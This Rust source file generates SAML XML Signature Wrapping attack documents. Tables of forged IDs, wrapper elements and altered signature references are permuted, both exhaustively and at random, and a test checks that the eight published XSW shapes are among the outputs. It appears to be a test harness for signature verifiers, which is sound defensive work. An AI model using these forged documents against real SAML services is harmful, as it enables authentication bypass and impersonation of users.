//! Signature wrapping, generated: every way in which one signed element, its signature and a forged copy of it fit into one document.
//!
//! The eight known shapes (Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012; named XSW1 to XSW8 by
//! the tool SAML Raider) are points of this space: where the genuine element stands × where its signature stands × what the forged element
//! is called × what the reference says × what is put around what is hidden. The text is cut and joined as an attacker does; nothing here
//! knows an XML reader, so a reader's mistake cannot hide behind the same mistake here.

/// What an attacker has.
#[derive(Clone, Copy, Debug)]
pub struct Wrapping<'a> {
    /// The whole document, as its sender made it.
    pub document: &'a str,
    /// The signed element, as it stands in the document, with its signature.
    pub signed: &'a str,
    /// The signature, as it stands in the signed element.
    pub signature: &'a str,
    /// The value of its `ID`.
    pub id: &'a str,
    /// What the attacker wants to say otherwise: what stands there, and what should.
    pub forged: (&'a str, &'a str),
}

/// What the forged element is called; `{}` is the identifier of the genuine one.
const NAMES: [&str; 9] = [
    " ID=\"{}\"",
    " ID=\"_evil\"",
    "",
    " Id=\"{}\"",
    " ID=\"_evil\" Id=\"{}\"",
    " ID=\"_evil\" xml:id=\"{}\"",
    " ID=\"_evil\" wsu:Id=\"{}\" xmlns:wsu=\"http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd\"",
    " xmlns:q=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_evil\" q:ID=\"{}\"",
    " ID=\"{}\" ID=\"_evil\"",
];

/// What is put around what is hidden.
const COVERS: [(&str, &str); 7] = [
    ("", ""),
    (
        "<samlp:Extensions xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">",
        "</samlp:Extensions>",
    ),
    (
        "<ds:Object xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">",
        "</ds:Object>",
    ),
    (
        "<ds:KeyInfo xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">",
        "</ds:KeyInfo>",
    ),
    (
        "<saml:Advice xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\">",
        "</saml:Advice>",
    ),
    (
        "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">",
        "</samlp:Response>",
    ),
    (
        "<x:n xmlns:x=\"urn:x\"><x:n><x:n><x:n><x:n><x:n><x:n><x:n><x:n>",
        "</x:n></x:n></x:n></x:n></x:n></x:n></x:n></x:n></x:n>",
    ),
];

/// What the reference of a copied signature says instead (SAML core section 5.4.2 allows the first one alone, which stands there already).
const REFERENCES: [&str; 7] = [
    " URI=\"\"",
    " URI=\"#_evil\"",
    " URI=\"#xpointer(/)\"",
    " URI=\"#xpointer(id('{}'))\"",
    " URI=\"{}\"",
    " URI=\"https://sp.example/elsewhere#{}\"",
    "",
];

impl Wrapping<'_> {
    /// Tells every permutation: what was done, and the document.
    ///
    /// `step` tells each `step`-th one of the systematic part, where time is short; 1 is all of them. The order is fixed.
    pub fn each(&self, step: usize, tell: &mut dyn FnMut(&str, &str)) {
        let mut count = 0_usize;
        let mut thinned = |what: &dyn Fn() -> String, document: &dyn Fn() -> String| {
            count += 1;
            if count.is_multiple_of(step.max(1)) {
                tell(&what(), &document());
            }
        };
        let bare = self.signed.replacen(self.signature, "", 1);
        for (name, evil) in self.evil_ones() {
            // The genuine one hidden beside or inside the forged one.
            let forged = self.document.replacen(self.signed, &evil, 1);
            for (hidden_name, hidden) in [
                ("the signed one", self.signed),
                ("the bare one", bare.as_str()),
                ("its signature", self.signature),
            ] {
                for (before, behind) in COVERS {
                    for at in boundaries(&forged) {
                        thinned(
                            &|| format!("{hidden_name} at {at} of the forged one ({name}) in {before}"),
                            &|| insert(&forged, at, &[before, hidden, behind].concat()),
                        );
                    }
                }
            }
            // The forged one hidden in the genuine document.
            for (before, behind) in COVERS {
                for at in boundaries(self.document) {
                    thinned(
                        &|| format!("the forged one ({name}) at {at} of the genuine one in {before}"),
                        &|| insert(self.document, at, &[before, &evil, behind].concat()),
                    );
                }
            }
        }
    }

    /// As many again that are drawn: up to five pieces at any places, references rewritten, signatures moved.
    pub fn drawn(&self, number: usize, seed: u64, tell: &mut dyn FnMut(&str, &str)) {
        let mut drawn = Drawn(seed);
        let bare = self.signed.replacen(self.signature, "", 1);
        let evil = self.evil_ones();
        for one in 0..number {
            let mut document = self.document.to_owned();
            if drawn.below(2) == 0 {
                document = document.replacen(self.signed, drawn.text(&evil), 1);
            }
            if drawn.below(3) == 0 {
                document = document.replacen(self.signature, "", 1);
            }
            for _ in 0..=drawn.below(4) {
                let (before, behind) = drawn.one(&COVERS).copied().unwrap_or_default();
                let signature = self.refers_to(drawn.one(&REFERENCES).copied().unwrap_or_default());
                let piece = match drawn.below(5) {
                    0 => self.signed,
                    1 => bare.as_str(),
                    2 => drawn.text(&evil),
                    3 => self.signature,
                    _ => signature.as_str(),
                };
                let at = drawn.one(&boundaries(&document)).copied().unwrap_or_default();
                document = insert(&document, at, &[before, piece, behind].concat());
            }
            tell(&format!("drawn, number {one} from {seed}"), &document);
        }
    }

    /// The forged element under every name, without a signature, with the genuine one's, and with one that refers to something else.
    fn evil_ones(&self) -> Vec<(String, String)> {
        let forged = self.signed.replace(self.forged.0, self.forged.1);
        assert_ne!(forged, self.signed, "nothing is forged");
        let own = format!(" ID=\"{}\"", self.id);
        let mut found = Vec::new();
        for name in NAMES {
            let named = forged.replacen(&own, &name.replace("{}", self.id), 1);
            found.push((
                format!("named{name}, unsigned"),
                named.replacen(self.signature, "", 1),
            ));
            found.push((format!("named{name}, with the signature"), named));
        }
        for reference in REFERENCES {
            let named = forged.replacen(&own, " ID=\"_evil\"", 1);
            found.push((
                format!("its reference is{reference}"),
                named.replacen(self.signature, &self.refers_to(reference), 1),
            ));
        }
        found
    }

    fn refers_to(&self, reference: &str) -> String {
        let own = format!(" URI=\"#{}\"", self.id);
        self.signature
            .replacen(&own, &reference.replace("{}", self.id), 1)
    }
}

/// Every place before a tag, and the end.
fn boundaries(text: &str) -> Vec<usize> {
    text.match_indices('<')
        .map(|(at, _)| at)
        .chain([text.len()])
        .collect()
}

fn insert(text: &str, at: usize, piece: &str) -> String {
    let (before, behind) = text.split_at(at);
    [before, piece, behind].concat()
}

/// `SplitMix64`: the same on every machine.
struct Drawn(u64);

impl Drawn {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        let limit = u64::try_from(limit).unwrap_or(1).max(1);
        usize::try_from((z ^ (z >> 31)) % limit).unwrap_or(0)
    }

    fn one<'t, T>(&mut self, all: &'t [T]) -> Option<&'t T> {
        all.get(self.below(all.len()))
    }

    fn text<'t>(&mut self, all: &'t [(String, String)]) -> &'t str {
        self.one(all).map_or("", |(_, text)| text.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The known shapes are among those that are generated.
    #[test]
    fn the_eight_shapes_are_points_of_the_space() {
        let (signature, id) = ("<ds:S><R URI=\"#_1\"/></ds:S>", "_1");
        let signed = format!("<a ID=\"_1\">{signature}<n>good</n></a>");
        let document = format!("<r>{signed}</r>");
        let wrapping = Wrapping {
            document: &document,
            signed: &signed,
            signature,
            id,
            forged: (">good<", ">evil<"),
        };
        let mut all = Vec::new();
        wrapping.each(1, &mut |_, document| all.push(document.to_owned()));
        let (bare, evil) = ("<a ID=\"_1\"><n>good</n></a>", "<a ID=\"_evil\"><n>evil</n></a>");
        let object = |inner: &str| {
            format!("<ds:Object xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">{inner}</ds:Object>")
        };
        let in_evil = |inner: &str| evil.replace("<n>evil", &format!("{inner}<n>evil"));
        for shape in [
            // Forged beside genuine, in front and behind (3); genuine inside forged (4); forged with the signature, the bare one beside (5).
            format!("<r>{evil}{signed}</r>"),
            format!("<r>{signed}{evil}</r>"),
            format!("<r>{}</r>", in_evil(&signed)),
            format!("<r>{}{bare}</r>", in_evil(signature)),
            // The bare one inside the signature that the forged one carries (6), with an object around (8).
            format!(
                "<r>{}</r>",
                in_evil(&signature.replace("</ds:S>", &format!("{bare}</ds:S>")))
            ),
            format!(
                "<r>{}</r>",
                in_evil(&signature.replace("</ds:S>", &format!("{}</ds:S>", object(bare))))
            ),
            // The forged one inside the signature of the genuine one.
            document.replace("</ds:S>", &format!("{}</ds:S>", object(evil))),
        ] {
            assert!(all.contains(&shape), "{shape}");
        }
        let mut drawn = Vec::new();
        wrapping.drawn(100, 1, &mut |_, document| drawn.push(document.to_owned()));
        assert_eq!(drawn.len(), 100);
    }
}
